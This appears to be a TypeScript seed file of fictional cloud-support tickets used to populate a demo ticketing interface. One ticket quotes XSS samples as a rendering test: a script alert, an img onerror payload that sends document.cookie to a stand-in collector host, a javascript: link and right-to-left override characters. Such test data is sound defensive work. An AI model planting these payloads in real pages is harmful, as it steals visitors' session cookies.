/** The demo tickets: every status, every type of entity, short and long threads. All of it is fictional. */
import type { Body } from '#/contract/op'
import type { tickets } from '#/contract/tickets'
import { DAY, type Calls } from '../calls'
import { gradientPng } from './png'

const READ_ONLY_DISK = `Since the resize **last night**, the second disk of this instance mounts read-only.

We did this, in this order:

1. stopped the instance,
2. resized it from 16 GB to 32 GB,
3. started it again at about 02:10 UTC.

\`\`\`
EXT4-fs error (device sdb): ext4_journal_check_start:84: Detected aborted journal
EXT4-fs (sdb): Remounting filesystem read-only
\`\`\`

The replica is *falling behind*. Is the disk failing, or can we run \`fsck\` on it?`

const KERNEL_LOG_ANSWER = `Thank you for the details. Nothing on the host points to a failing disk: the journal was cut when the \
instance stopped before its last writes were complete.

Please

- stop the database,
- unmount the disk,
- and run \`e2fsck -f /dev/sdb\`.

> Do **not** run it while the disk is mounted.

If it reports anything but a replayed journal, send us the output before you confirm a repair.`

const THROUGHPUT = `We copy about **2.4 TB** each night from \`db-replica-2\` to the bucket \`app-logs\` in us-iad-1. Until last \
week, that took four hours. Now it takes nine. Nothing changed on our side.

| night      | hours | mean rate  | errors |
|:-----------|------:|-----------:|-------:|
| Monday     |   4.1 | 163 MB/s   |      0 |
| Tuesday    |   4.0 | 167 MB/s   |      0 |
| Wednesday  |   8.7 |  77 MB/s   |     12 |
| Thursday   |   9.2 |  73 MB/s   |     31 |

## What we tried

- [x] another network path (through \`web-frankfurt-1\`): no change
- [x] fewer and more parallel streams (8, 16, 32, 64): no change
- [x] smaller parts: slower
- [ ] another cluster: not possible, because the readers are in us-iad

## How to reproduce it

\`\`\`sh
time curl -sS -T part-0001.bin "$SIGNED_URL" -o /dev/null -w '%{http_code} %{speed_upload}\\n'
\`\`\`

Most responses are \`200\`. The errors in the table are connections that were reset after 30 to 60 seconds, always within \
the first ten minutes of an hour. We recorded all of them:

\`\`\`
02:03:11 reset after 41 s   part-0007
02:03:58 reset after 38 s   part-0009
02:06:20 reset after 55 s   part-0031
03:01:47 reset after 33 s   part-0188
03:02:02 reset after 44 s   part-0190
03:08:36 reset after 59 s   part-0241
04:00:51 reset after 31 s   part-0377
04:04:15 reset after 47 s   part-0395
\`\`\`

Our measurements are at <https://docs.larkspur.example/nightly-copy>. In short, the *first byte* of each \
response still arrives after 20 ms, and only the transfer itself is slow. ~~We suspect our firewall.~~ We have ruled out our firewall.

### Questions

1. Did anything change in the cluster on Tuesday night?
2. Did we reach a limit of our account?
3. Would it help to spread the copy over the whole day?

We’re happy to run any test you suggest. Ines is available from 06:00 to 14:00 UTC, Tomasz after that.`

const HOSTILE = `Somebody entered this in the comment field of our shop. The attached log contains it:

<script>alert(document.domain)</script>
<img src=x onerror="fetch('https://collector.example/' + document.cookie)">

[click here](javascript:alert(1)) and ![a picture](https://collector.example/pixel.gif)

The order number is \u202E0001-2026\u202C, which reads backwards in some programs.

We filter it on our pages. We only want to know **whether your tools show it as text**.`

const MAINTENANCE = `On Sunday from 04:00 to 06:00 UTC we’re replacing network equipment in **us-iad**.

- Instances keep running.
- Connections might be interrupted once, for *up to two minutes*.
- Object storage in us-iad-1 is available but slower than usual.

You don’t need to do anything. We’ll reply here when the work is done.`

export interface SeedReply {
  /** Hours after the opening. */
  readonly after: number
  readonly by: string
  readonly staff: boolean
  readonly text: string
}
export interface SeedTicket {
  /** Hours before now. */
  readonly ago: number
  readonly by: string
  /** Opened by the provider. */
  readonly staff?: boolean
  readonly summary: string
  readonly text: string
  readonly about?: Omit<Body<typeof tickets.open>, 'summary' | 'description'>
  readonly replies?: readonly SeedReply[]
  /** Hours after the opening, and who closed it. */
  readonly closed?: readonly [after: number, by: string]
  /** Files whose bytes are created when stored. */
  readonly files?: readonly (readonly [name: string, bytes: () => Buffer])[]
}

const MIRA = 'Mira (Support)'
const JONAS = 'Jonas (Support)'
const staff = (after: number, by: string, text: string): SeedReply => ({ after, by, staff: true, text })
const ours = (after: number, by: string, text: string): SeedReply => ({ after, by, staff: false, text })
const file = (name: string, text: string) => [name, () => Buffer.from(text)] as const

/** Oldest first, so that ids follow the time of opening. */
export const demoTickets = (c: Calls): readonly SeedTicket[] => [
  {
    ago: 212 * DAY,
    by: 'tomasz',
    summary: 'Invoice shows our old address',
    text: 'We moved in spring. The address in the account is correct, but the one on the invoice isn’t.',
    replies: [
      staff(5, JONAS, 'We’ve corrected it, and your next invoice will show it. Should we resend the last one?'),
      ours(6, 'tomasz', 'Yes, please.'),
      staff(30, JONAS, 'Done.'),
    ],
    closed: [31, 'tomasz'],
  },
  {
    ago: 148 * DAY,
    by: 'demo',
    summary: 'Raise the number of instances in us-southeast',
    text: 'We need *twelve* more for a load test that runs for three days in two weeks.',
    replies: [staff(2, MIRA, 'Your limit is 25 until the end of next month.')],
    closed: [50, 'demo'],
  },
  {
    ago: 97 * DAY,
    by: JONAS,
    staff: true,
    summary: 'Mail sent from your account was reported as spam',
    text: 'We received three reports about mail from `mail-relay`. Please fix this within **48 hours** and let us know what you did.',
    replies: [
      ours(3, 'ines', 'A form on our site could be used to send mail to anyone. We turned it off.'),
      staff(7, JONAS, 'Thank you. We received no further reports.'),
    ],
    closed: [72, JONAS],
  },
  {
    ago: 64 * DAY,
    by: 'ines',
    summary: 'Cluster nodes lose their labels after an upgrade',
    text: 'After each upgrade of the pool, the labels that we set by hand are missing. Is that expected?',
    about: { k8scluster_id: c.id('k8scluster production') },
    replies: [
      staff(9, MIRA, 'Yes. A new node starts with the pool’s settings. Labels on the *pool* are kept.'),
      ours(12, 'ines', 'Good to know. We’ll set them there.'),
    ],
    closed: [13, 'ines'],
  },
  {
    ago: 41 * DAY,
    by: 'demo',
    summary: 'Reverse DNS for the load balancer',
    text: 'Can the address of `front-door` resolve to `www.larkspur.example`?',
    about: { loadbalancer_id: c.id('loadbalancer front-door') },
    replies: [staff(20, JONAS, 'I’m sorry, that’s not possible for load balancers. You can set it for instances.')],
  },
  {
    ago: 23 * DAY,
    by: 'tomasz',
    summary: 'Zone transfer of larkspur.example fails from the second server',
    text: 'Our first secondary gets the zone, but the second is refused with the same settings.',
    about: { domain_id: c.id('domain larkspur.example') },
    replies: [
      staff(4, MIRA, 'Which address does the second one use?'),
      ours(5, 'tomasz', '`2001:db8:40::53`.'),
      staff(6, MIRA, 'That address isn’t in the list of servers, only its IPv4 address is. Please add both.'),
    ],
  },
  {
    ago: 16 * DAY,
    by: 'demo',
    summary: 'Attached log contains strange orders',
    text: HOSTILE,
    about: { firewall_id: c.id('firewall web-only') },
    replies: [staff(11, JONAS, 'It’s shown as text here, as it should be. <b>And so is this.</b>')],
    files: [file('shop-comments.txt', '2026-01-04 "<script>alert(1)</script>"\n2026-01-04 "fine, thanks"\n')],
  },
  {
    ago: 9 * DAY,
    by: 'ines',
    summary: 'Nightly copy to us-iad-1 takes twice as long since Wednesday',
    text: THROUGHPUT,
    about: { instance_id: c.id('instance db-replica-2') },
    replies: [
      staff(3, MIRA, 'We see the resets and are investigating. Please keep sending us the times.'),
      ours(22, 'ines', 'Last night: 8.9 hours and 27 resets. The times are attached.'),
      staff(
        30,
        MIRA,
        'One of the paths into the cluster was overloaded at the top of each hour. We took it out of service.',
      ),
      ours(47, 'ines', '**4.2 hours** last night. We’ll watch it for a week before we close this ticket.'),
    ],
    files: [
      file('resets-thursday.txt', '02:03:11 41 part-0007\n02:03:58 38 part-0009\n02:06:20 55 part-0031\n'),
      ['rate by hour (last 7 nights).png', () => gradientPng(480, 240, 120)],
    ],
  },
  {
    ago: 6 * DAY,
    by: 'demo',
    summary: 'Second disk is read-only after a resize',
    text: READ_ONLY_DISK,
    about: { instance_id: c.id('instance db-replica-2') },
    replies: [
      staff(1.5, JONAS, KERNEL_LOG_ANSWER),
      ours(3, 'demo', 'It only replayed the journal. The disk mounts, and the replica is catching up. Thank you!'),
    ],
    files: [
      file('mount.txt', '/dev/sdb on /var/lib/data type ext4 (ro,relatime)\n'),
      file('dmesg.TXT', 'EXT4-fs error\n'),
    ],
  },
  {
    ago: 4 * DAY,
    by: 'tomasz',
    summary: 'Backups of orders-primary: how long are they kept?',
    text: 'The website says a week, but the contract says 14 days.',
    about: { database_id: c.id('database orders-primary') },
    replies: [staff(8, JONAS, 'Fourteen days. We’ll correct the website tomorrow.')],
  },
  {
    ago: 40,
    by: MIRA,
    staff: true,
    summary: 'Maintenance in us-iad on Sunday',
    text: MAINTENANCE,
  },
  {
    ago: 26,
    by: 'demo',
    summary: 'Monitoring shows no data for web-frankfurt-1',
    text: 'Since this morning, the page says that no data was received. The application is running:\n\n```\nactive (running) since Mon\n```',
    about: { monitoringclient_id: c.id('monitoring_client web-frankfurt-1') },
    files: [['monitoring page.png', () => gradientPng(360, 220, 0)]],
  },
  {
    ago: 5,
    by: 'ines',
    summary: 'Instances in the VLAN db-sync can’t reach each other',
    text: '`db-replica-2` can’t see the others in **us-iad**. In eu-central, everything works.',
    about: { vlan: 'db-sync', region: 'us-iad' },
  },
  {
    ago: 0.4,
    by: 'demo',
    summary: 'Can we move an address from the VPC backoffice to another one?',
    text: 'Without downtime, if possible.',
    about: { vpc_id: c.id('vpc backoffice') },
  },
]
